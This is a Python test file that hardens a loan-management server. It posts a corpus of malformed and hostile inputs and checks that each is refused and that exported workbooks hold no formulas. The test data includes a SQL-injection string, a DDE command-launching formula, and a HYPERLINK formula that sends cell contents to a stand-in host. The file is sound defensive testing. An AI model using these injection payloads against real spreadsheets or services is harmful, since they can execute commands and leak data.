"""The bad-input corpus, over real HTTP: oversized and deeply nested bodies, wrong types,
control characters, unicode confusables and direction overrides, SQL and spreadsheet-formula
text, impossible amounts and dates, malformed statement and Excel files. Every one is a 4xx
with a sentence a person can act on, and the stored state is byte-for-byte what it was.

Text that is legitimately free (a note) may hold SQL or formula-like words: it is stored as
text, and the spreadsheets that carry people's text write it as a string, never a formula.
"""

from __future__ import annotations

import io
import uuid
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import openpyxl
from uuid6 import uuid7

from loancore.contract import PROTOCOL_VERSION
from loancore.roles import Role
from sync_server.book.export import export_book
from sync_server.db.engine import Database
from sync_server.loans.book import BorrowerDetails, NewLoan, create_loan
from sync_server.principal import SYSTEM
from tests.sync_server.conftest import Actors
from tests.sync_server.hardening.state import figure, table_digests
from tests.sync_server.sync.conftest import DISBURSED, FIRST_DUE, World, cash, command

TODAY = "2026-11-27"


@dataclass
class Case:
    name: str
    method: str
    path: str
    role: str = "asha"
    json: Any = None
    content: bytes | None = None
    params: dict[str, str] = field(default_factory=dict)
    content_type: str | None = None


def _payment(world: World, **changed: Any) -> dict[str, Any]:
    return {"id": str(uuid7()), **cash(world.asha_loan, 1_000_00, "RB-000101", TODAY), **changed}


def _push(world: World, **changed: Any) -> dict[str, Any]:
    body = cash(world.asha_loan, 1_000_00, "RB-000102", TODAY)
    body.update(changed)
    return {
        "protocol_version": PROTOCOL_VERSION,
        "device_id": "dev-corpus",
        "commands": [command("payment", body)],
    }


def _nested(depth: int) -> bytes:
    return b'{"commands":' + b"[" * depth + b"]" * depth + b"}"


def _xlsx_without_a_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return buffer.getvalue()


def _corpus(world: World) -> list[Case]:
    pay = "/api/v1/payments"
    push = "/api/v1/sync/push"
    amounts: list[Any] = [-100, 0, 10**20, 2**63, 100.5, "1000", "1e3", None, True, [1]]
    dates = ["2026-12-31", "1900-01-01", "0001-01-01", "9999-12-31", "27-11-2026", "2026-02-30"]
    texts = {
        "NUL": "RB-0\x00001",
        "bell": "RB-0\x07001",
        "bidi override": "RB-\u202e1000",
        "zero-width space": "RB-\u200b1000",
        "Cyrillic look-alike": "RВ-0001",
        "SQL": "1' OR '1'='1",
        "formula": '=HYPERLINK("http://x")',
    }
    cases = [
        Case(
            "oversized push",
            "POST",
            push,
            content=b"{" + b" " * (3 * 1024 * 1024) + b"}",
            content_type="application/json",
        ),
        Case(
            "nested 10k deep",
            "POST",
            push,
            content=_nested(10_000),
            content_type="application/json",
        ),
        Case(
            "not JSON", "POST", push, content=b"{'commands': nope", content_type="application/json"
        ),
        Case("array for object", "POST", pay, json=[_payment(world)]),
        Case("unknown field", "POST", pay, json=_payment(world, admin=True)),
        Case("id not a uuid7", "POST", pay, json=_payment(world, id=str(uuid.uuid4()))),
        Case("loan id not a uuid", "POST", pay, json=_payment(world, loan_id="LN0001")),
        Case("mode unknown", "POST", pay, json=_payment(world, mode="bitcoin")),
        Case("foreclosure as text", "POST", pay, json=_payment(world, foreclosure="yes")),
        Case(
            "loans list limit huge",
            "GET",
            "/api/v1/loans",
            role="manager",
            params={"limit": str(2**70)},
        ),
        Case("loans search NUL", "GET", "/api/v1/loans", role="manager", params={"q": "a\x00b"}),
        Case(
            "statement garbage",
            "POST",
            "/api/v1/reconciliation/statements",
            role="finance",
            content=b"\x00\x01garbage" * 100,
            params={"file_name": "stmt.sta"},
            content_type="application/octet-stream",
        ),
        Case(
            "statement empty",
            "POST",
            "/api/v1/reconciliation/statements",
            role="finance",
            content=b"",
            params={"file_name": "stmt.csv", "account": "HDFC"},
            content_type="application/octet-stream",
        ),
        Case(
            "statement xlsx not a zip",
            "POST",
            "/api/v1/reconciliation/statements",
            role="finance",
            content=b"PK\x03\x04broken",
            params={"file_name": "s.xlsx", "account": "HDFC"},
            content_type="application/octet-stream",
        ),
        Case(
            "book not a workbook",
            "POST",
            "/api/v1/book/imports",
            role="finance",
            content=b"not a workbook at all",
            params={"dry_run": "false"},
            content_type="application/octet-stream",
        ),
        Case(
            "book zip without a workbook",
            "POST",
            "/api/v1/book/imports",
            role="finance",
            content=_xlsx_without_a_workbook(),
            params={"dry_run": "false"},
            content_type="application/octet-stream",
        ),
    ]
    for amount in amounts:
        cases.append(
            Case(f"REST amount {amount!r}", "POST", pay, json=_payment(world, amount_paise=amount))
        )
        cases.append(
            Case(f"sync amount {amount!r}", "POST", push, json=_push(world, amount_paise=amount))
        )
    for day in dates:
        cases.append(Case(f"REST date {day}", "POST", pay, json=_payment(world, payment_date=day)))
    for name, text_ in texts.items():
        cases.append(
            Case(f"REST reference {name}", "POST", pay, json=_payment(world, reference=text_))
        )
        cases.append(
            Case(f"sync reference {name}", "POST", push, json=_push(world, reference=text_))
        )
    return cases


def _headers(actors: Actors, world: World) -> dict[str, dict[str, str]]:
    return {
        "asha": actors.headers(world.asha),
        "manager": actors.headers(world.manager),
        "finance": actors.headers(actors.user(Role.FINANCE, username="fina")),
    }


def _refused(response: httpx.Response, path: str) -> bool:
    """A 4xx with a sentence; a push answers 200 with each command's own refusal."""
    if path.endswith("/sync/push") and response.status_code == 200:
        results = response.json()["results"]
        return all(r["status"] == "rejected" and r["reason"] for r in results)
    if not 400 <= response.status_code < 500:
        return False
    detail = response.json().get("detail")
    return isinstance(detail, str) and len(detail) > 10


def test_every_bad_input_is_a_clear_4xx_and_nothing_stored_changes(
    http: httpx.Client, actors: Actors, world: World, db: Database
) -> None:
    headers = _headers(actors, world)
    corpus = _corpus(world)
    before = table_digests(db)
    failures = []
    for case in corpus:
        extra = {"Content-Type": case.content_type} if case.content_type else {}
        response = http.request(
            case.method,
            case.path,
            json=case.json,
            content=case.content,
            params=case.params,
            headers={**headers[case.role], **extra},
        )
        if not _refused(response, case.path):
            failures.append(f"{case.name}: {response.status_code} {response.text[:200]}")
    after = table_digests(db)
    changed = [table for table in before if after[table] != before[table]]
    figure(
        f"bad input refused with a clear 4xx: {len(corpus) - len(failures)}/{len(corpus)}, "
        f"tables changed {len(changed)} {changed}"
    )
    assert failures == []
    assert changed == []


def test_formula_text_in_a_borrowers_details_is_a_string_in_the_exported_book(
    db: Database, world: World, tmp_path: Path
) -> None:
    hostile = {
        "name": '=HYPERLINK("http://x.example/?"&A1,"Asha")',
        "address": "+91 cmd|' /C calc'!A0",
        "phone": "@SUM(1+1)",
    }
    with db.unit_of_work() as session:
        create_loan(
            session,
            SYSTEM,
            NewLoan(
                account_no="LN0666",
                borrower=BorrowerDetails(
                    "C-666", hostile["name"], "9800000666", hostile["address"]
                ),
                branch_id=world.branch,
                product_code="PL",
                principal_paise=50_000_00,
                annual_rate_bp=1200,
                tenure_months=12,
                disbursement_date=DISBURSED,
                first_due_date=FIRST_DUE,
                collector_id=world.asha,
            ),
        )
    path = export_book(db, tmp_path / "book.xlsx")
    workbook = openpyxl.load_workbook(path)
    formulas = [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    figure(f"formula cells in the exported loan book: {len(formulas)}")
    assert formulas == []
    texts = {
        cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
    }
    assert hostile["name"] in texts
